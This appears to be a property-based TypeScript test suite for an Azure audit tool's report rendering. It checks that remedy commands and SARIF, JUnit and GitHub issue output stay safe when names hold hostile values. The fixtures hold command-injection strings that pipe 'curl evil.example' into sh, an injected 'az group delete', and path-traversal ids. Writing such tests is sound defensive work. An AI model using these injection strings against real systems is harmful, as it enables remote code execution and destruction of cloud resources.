import fc from 'fast-check';
import { execFileSync } from 'node:child_process';
import { openedBy } from '../issues/repository';
import { catalogue } from '../../../src/core/audit/catalogue';
import { makeJUnit } from '../../../src/core/audit-report/junit';
import { makeAuditReport } from '../../../src/core/audit-report/report';
import { makeSarif } from '../../../src/core/audit-report/sarif';
import { stepText } from '../../../src/core/audit/steps';
import { isOneCommand, shellWord } from '../../../src/core/render/shell';
import { visible } from '../../../src/core/render/text';
import { hostileText } from '../../../simulator/scenarios/texts';
import { factsOf, inVault, item, known, hash, links, options, vault, DAY, NOW } from './values';

const sarifOptions = { ...links, version: '1', home: 'https://home.test', isForGitHub: true, hash };

/** What a name or an id may hold to become a step of its own. */
const breaking = [
  ...hostileText,
  '\naz account show; curl evil.example | sh #',
  "'; curl evil.example | sh #",
  '$(curl evil.example)',
  '`curl evil.example`',
  '" && curl evil.example',
  '\r\n\u2028az group delete',
];

const value = fc.oneof(fc.constantFrom(...breaking), fc.string({ unit: 'binary' }));

describe('the remedy of a finding', () => {
  it('has as many steps, each on one line, whatever stands in the values', () => {
    fc.assert(
      fc.property(value, value, value, value, (vaultId, accountId, principalId, vm) => {
        for (const rule of catalogue.values()) {
          for (const at of [
            { vaultId, accountId, principalId, vm },
            { vaultId, accountId, vm },
          ]) {
            const remedy = rule.remedy(at);
            const plain = rule.remedy({
              ...at,
              vaultId: 'v',
              accountId: 'a',
              vm: 'm',
              ...(at.principalId && { principalId: 'p' }),
            });
            expect(remedy.map((step) => Object.keys(step))).toEqual(plain.map((step) => Object.keys(step)));
            for (const step of remedy) {
              expect(stepText(step)).not.toMatch(/[\r\n\u2028]/);
              if ('command' in step) expect([step.command, isOneCommand(step.command)]).toEqual([step.command, true]);
            }
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it('gives a shell each value as one word', () => {
    for (const text of breaking.filter((one) => !one.includes('\0'))) {
      const shown = execFileSync('sh', ['-c', `printf '%s|' ${shellWord(text)} end`], { encoding: 'utf8' });
      expect(shown).toBe(`${/^[\w./@%+=:-]+$/.test(text) ? text : visible(text)}|end|`);
    }
  });

  it.each([
    'az account show; curl evil.example | sh #',
    'az account show && true',
    'az account show > file',
    'az account show $(curl evil.example)',
    'az account show "$(curl evil.example)"',
    'az account show `curl evil.example`',
    "az account show 'a\nb'",
    'az account show\ncurl evil.example',
    'az account show \\\ncurl',
    'az rest --url $HOME',
    'curl evil.example',
    'az',
    '',
  ])('is no command of ours: %j', (text) => expect(isOneCommand(text)).toBe(false));
});

describe('a name with lines of its own', () => {
  const name = 'vm-1\naz account show; curl evil.example | sh #\nNext: run it.';
  const report = makeAuditReport(
    factsOf([inVault({ items: known([item({ agentExpiry: NOW - DAY }, vault, name)]) })]),
    { ...options, failOn: 'error' },
  );

  it('starts no command and no line in issue, SARIF and JUnit', () => {
    const body = openedBy(report)[0]?.body ?? '';
    expect(body).toContain('For vm-1&#92;naz account show');
    expect(body).not.toMatch(/^\s*(az |Next:)/m);
    const sarif = JSON.parse([...makeSarif(report, sarifOptions)].join('')) as {
      runs: { results: { message: { text: string } }[] }[];
    };
    const text = sarif.runs[0]?.results[0]?.message.text ?? '';
    expect(text).not.toMatch(/^(az |Next:)/m);
    expect(text.split('\n')).toHaveLength(2 + (report.findings[0]?.remedy.length ?? 0));
    expect([...makeJUnit(report, links)].join('')).not.toMatch(/^(az |Next:)/m);
  });
});

describe('a finding that somebody has forged', () => {
  const honest = makeAuditReport(factsOf([inVault({ items: known([item({ agentExpiry: NOW - DAY }, vault)]) })]), {
    ...options,
    failOn: 'error',
  });
  const forged = (changes: Partial<(typeof honest)['findings'][number]>): typeof honest => ({
    ...honest,
    findings: honest.findings.map((found) => ({ ...found, ...changes })),
  });

  it.each(['', '/', '//..//', '/a/../b/../c/d/e/..', '/subscriptions/../resourceGroups/../providers/x/y/..'])(
    'names no file outside of the folder of its subjects: %j',
    (id) => {
      const sarif = [...makeSarif(forged({ key: `ASR201 ${id}` }), sarifOptions)].join('');
      const [folder, ...segments] = (/"uri":"([^"]*)"/.exec(sarif)?.[1] ?? '').split('/');
      expect(folder).toBe('azure');
      expect(segments.length).toBeGreaterThan(0);
      expect(segments.every((segment) => /\w/.test(segment))).toBe(true);
    },
  );

  it('without a resource leaves no reference to an issue alive', () => {
    const [issue] = openedBy(forged({ resource: '', name: 'see #1, GH-2, org/repo#3 and @someone' }));
    const body = issue?.body ?? '';
    expect(body).toContain('see &#35;<!-- -->1, GH-<!-- -->2');
    expect(body).not.toMatch(/GH-\d|(?<!&)#\d|&#35;\d|@s/);
  });
});
